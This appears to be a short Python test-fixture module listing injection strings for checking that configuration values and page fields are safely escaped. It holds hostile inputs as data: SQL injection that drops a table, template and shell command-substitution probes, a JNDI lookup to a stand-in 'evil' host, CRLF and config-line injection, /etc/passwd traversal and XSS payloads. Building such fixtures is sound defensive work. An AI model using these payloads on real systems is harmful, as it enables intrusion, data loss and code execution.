"""Texts that would do something in one of the languages between a field of the configuration and the machine."""

from __future__ import annotations

INJECTIONS = (
    "'; DROP TABLE zt_item; --",
    '" OR "1"="1',
    "{{ 7*7 }}",
    "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${x}${jndi:ldap://evil}",
    "%(x)s %s {0} {x.__class__}",
    "x\r\nX-Evil: 1",
    "x\nserver.modules += ( 'mod_cgi' )",
    "\x00",
    "$(id)`id`;id|id",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
)

HTML = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
)
"""Texts that would run in a browser, from each place of a page that they may stand in."""
